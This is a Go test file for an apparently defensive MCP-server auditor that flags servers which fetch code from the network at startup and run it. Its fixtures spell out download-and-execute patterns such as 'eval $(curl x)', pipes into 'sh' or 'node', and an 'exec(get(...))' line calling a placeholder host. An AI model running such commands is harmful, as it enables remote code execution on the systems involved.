package audit

import (
	"strings"
	"testing"

	"github.com/mcpaudit/mcpaudit/api/report"
	"github.com/mcpaudit/mcpaudit/runner/ledger"
	"github.com/mcpaudit/mcpaudit/runner/profile"
)

func connects(host, address string) profile.Effect {
	return profile.Effect{Fact: profile.Fact{Kind: profile.KindConnect, Host: host, Address: address, Port: 443, Protocol: "tcp"}, Count: 1}
}

func starts(argv ...string) profile.Effect {
	return profile.Effect{Fact: profile.Fact{Kind: profile.KindExec, Path: "/usr/bin/" + baseName(argv[0]), Argv: profile.NewArgv(argv...)}, Count: 1}
}

func opens(kind profile.Kind, path string) profile.Effect {
	return profile.Effect{Fact: profile.Fact{Kind: kind, Path: path, Operation: "openat"}, Count: 1}
}

func seenAt(where ledger.Where, effects ...profile.Effect) []profile.Effect {
	for i := range effects {
		effects[i].Where = where
	}
	return effects
}

// TestL7FetchedCode: code that came over the network is no Pass, by whatever way it comes
// to run, and what an honest server does with an open network is.
func TestL7FetchedCode(t *testing.T) {
	var (
		npm   = connects("registry.npmjs.org", "104.16.0.1")
		some  = connects("x.example", "192.0.2.1")
		write = func(path string) profile.Effect { return opens(profile.KindWrite, path) }
		read  = func(path string) profile.Effect { return opens(profile.KindRead, path) }
		twice = func(e profile.Effect) profile.Effect { e.Count = 2; return e }
	)
	const body = "fetch('/').then(run)"
	node := starts("node", "x.js")
	for name, effects := range map[string][]profile.Effect{
		"npx":                       {starts("npx", "-y", "x"), npm},
		"npx, its script":           {starts("node", "/usr/bin/npx", "-y", "x"), some},
		"npx, no name":              {starts("sh", "-c", "npx -y x"), starts("/usr/bin/npx", "-y", "x"), connects("", "104.16.0.1")},
		"npm exec":                  {starts("npm", "--yes", "exec", "x"), npm},
		"pip as a module":           {starts("python3", "-m", "pip", "install", "x"), some},
		"uvx":                       {starts("uvx", "x"), some},
		"uv run":                    {starts("uv", "run", "x.py"), connects("pypi.org", "192.0.2.1")},
		"bun, on demand":            {starts("bun", "run", "x.ts"), npm},
		"go run":                    {starts("go", "run", "x@latest"), connects("proxy.golang.org", "192.0.2.1")},
		"deno":                      {starts("deno", "run", "x.ts"), connects("deno.land", "192.0.2.1")},
		"deno, a URL":               {starts("deno", "run", "https://x.example/mod"), some},
		"a program":                 {node, some, write("/tmp/x"), {Fact: profile.Fact{Kind: profile.KindExec, Path: "/tmp/x"}, Count: 1}},
		"a program, stored late":    {node, write("/tmp/x"), some, opens(profile.KindStore, "/tmp/x"), {Fact: profile.Fact{Kind: profile.KindExec, Path: "/tmp/x"}, Count: 1}},
		"a module":                  {node, some, write("/tmp/a.mjs"), read("/tmp/a.mjs")},
		"a module, written twice":   {node, twice(write("/tmp/a.py")), some, read("/tmp/a.py")},
		"a module, by another name": {node, some, {Fact: profile.Fact{Kind: profile.KindWrite, Operation: "rename", Path: "/app/a.py"}, Count: 1}, read("/app/a.py")},
		"an installed module":       {node, some, write("/app/node_modules/x/index.js")},
		"a library":                 {starts("python3", "x.py"), some, write("/tmp/x.so")},
		"a script":                  {node, some, write("/tmp/data.txt"), starts("python3", "/tmp/data.txt")},
		"a script, relative":        {node, some, write("/app/data.txt"), starts("sh", "data.txt")},
		"a pipe":                    {starts("sh", "-c", "fetcher | node -"), starts("node", "-"), some},
		"a pipe, by default":        {starts("sh", "-c", "fetcher | python3"), starts("python3"), some},
		"a pipe into a shell":       {starts("sh", "-c", "fetcher | sh -s x"), starts("sh", "-s", "x"), some},
		"curl and eval":             {starts("sh", "-c", "eval $(curl x)"), starts("curl", "x"), some},
		"an argument":               {node, some, starts("node", "-e", "serve()")},
		"an argument, clustered":    {node, some, starts("perl", "-wne", "serve()")},
		"an argument, later":        {node, some, starts("node", "--require", "x", "--eval=serve()")},
		"a shell's argument":        {node, some, starts("sh", "-c", "set -e\nserve")},
		"a URL of code":             {starts("python3", "-c", "exec(get('http://x.example/a.py'))"), some},
		"a request for code":        {node, {Fact: profile.Fact{Kind: profile.KindSend, Address: "192.0.2.1", Protocol: "tcp", Port: 80}, Count: 1, Detail: `write(3, "GET /a.js HTTP/1.1\r\n")`}},
	} {
		t.Run(name, func(t *testing.T) {
			o := watched(func(o *observation) { o.profile.Effects = seenAt(startup, effects...) })
			plan := Plan{Command: []string{"node", "-e", body}, Network: report.NetworkAllow}
			got := fetched(plan, []observation{o})
			if got.Reason != report.ReasonCodeFetched || !strings.HasPrefix(got.Message, "the server fetched code at its start, from ") {
				t.Errorf("got %+v", got)
			}
			plan.Network = report.NetworkSinkhole
			if got := fetched(plan, []observation{o}); got.Reason != "" {
				t.Errorf("in the sinkhole: got %+v", got)
			}
		})
	}
	call := ledger.Where{Phase: report.PhaseCall, Capability: report.Capability{Kind: report.CapabilityTool, Name: "x"}}
	for name, effects := range map[string][]profile.Effect{
		"a check for updates":    seenAt(startup, node, npm, write("/root/.config/update-notifier-x.json"), read("/root/.config/update-notifier-x.json")),
		"the same, by npm":       seenAt(startup, node, npm, starts("npm", "view", "x", "version")),
		"the same, in Python":    seenAt(startup, starts("python3", "x.py"), connects("pypi.org", "192.0.2.1")),
		"npm start":              seenAt(startup, starts("npm", "start"), npm, node),
		"cached":                 seenAt(startup, starts("npx", "-y", "x")),
		"failed":                 seenAt(startup, starts("npx", "x"), profile.Effect{Fact: profile.Fact{Kind: profile.KindConnect, Host: "registry.npmjs.org", Error: "ECONNREFUSED"}}),
		"loopback":               seenAt(startup, starts("npx", "x"), connects("", "127.0.0.1")),
		"an API":                 seenAt(startup, node, connects("api.example.com", "192.0.2.1")),
		"an API, then a command": seenAt(startup, node, some, starts("sh", "-c", "git rev-parse HEAD"), starts("git", "rev-parse", "HEAD"), starts("node", "-v"), starts("python3", "-V")),
		"a worker":               seenAt(startup, node, some, starts("node", "/app/worker.js", "-e", "prod")),
		"a tool's work":          seenAt(call, npm, starts("npx", "x"), starts("curl", "x"), write("/tmp/a.js"), read("/tmp/a.js")),
		"builds before":          seenAt(startup, node, write("/tmp/a.js"), read("/tmp/a.js"), some),
		"a mode":                 seenAt(startup, node, some, profile.Effect{Fact: profile.Fact{Kind: profile.KindWrite, Operation: "chmod", Path: "/app/x.js"}}, read("/app/x.js")),
		"data":                   seenAt(startup, node, some, write("/tmp/data.json"), read("/tmp/data.json"), write("/var/x.db"), read("/var/x.db")),
		"a cache of modules":     seenAt(startup, node, some, write("/app/node_modules/.cache/x.js")),
		"its own command":        seenAt(startup, starts("sh", "-c", "node -e '"+body+"'"), starts("node", "-e", body), some),
		"builds, no network":     seenAt(startup, node, write("/tmp/x"), profile.Effect{Fact: profile.Fact{Kind: profile.KindExec, Path: "/tmp/x"}}),
	} {
		t.Run("honest: "+name, func(t *testing.T) {
			o := watched(func(o *observation) { o.profile.Effects = effects })
			if got := fetched(Plan{Command: []string{"node", "-e", body}, Network: report.NetworkAllow}, []observation{o}); got.Reason != "" {
				t.Errorf("got %+v", got)
			}
		})
	}
}

// TestL7FetchedForTheNextLaunch: what one launch fetches and the next one loads.
func TestL7FetchedForTheNextLaunch(t *testing.T) {
	launch := func(effects ...profile.Effect) observation {
		return watched(func(o *observation) { o.profile.Effects = seenAt(startup, effects...) })
	}
	some := connects("x.example", "192.0.2.1")
	first := launch(some, opens(profile.KindWrite, "/app/update.js"))
	plan := Plan{Network: report.NetworkAllow}
	if got := fetched(plan, []observation{first}); got.Reason != "" {
		t.Errorf("one launch: got %+v", got)
	}
	second := launch(opens(profile.KindRead, "/app/update.js"), some)
	if got := fetched(plan, []observation{first, second}); got.Reason != report.ReasonCodeFetched || !strings.Contains(got.Message, "/app/update.js") {
		t.Errorf("two launches: got %+v", got)
	}
}
